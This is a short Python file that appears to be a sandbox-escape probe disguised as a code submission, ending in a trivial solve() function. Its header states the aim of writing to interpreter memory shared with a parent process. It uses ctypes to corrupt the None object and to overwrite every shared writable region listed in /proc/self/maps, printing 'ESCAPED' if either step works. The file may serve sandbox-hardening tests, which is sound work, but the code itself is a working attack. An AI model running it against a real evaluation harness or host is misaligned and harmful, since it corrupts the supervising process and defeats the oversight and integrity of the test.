# wants: write to pages of the interpreter that might be shared with its parent
# routes: stdin call
# limits: cpu_s=3 wall_s=9
import ctypes

value = ctypes.c_long.from_address(id(257 - 1) + 24)
if 256 != int("256"):
    print("ESCAPED", flush=True)
ctypes.memset(id(None) + 8, 0x7F, 1)
try:
    for line in open("/proc/self/maps"):
        parts = line.split()
        if parts[1] == "rw-s":
            low, high = (int(part, 16) for part in parts[0].split("-"))
            ctypes.memset(low, 0xFF, high - low)
            print("ESCAPED", flush=True)
except OSError:
    pass


def solve(token):
    return token
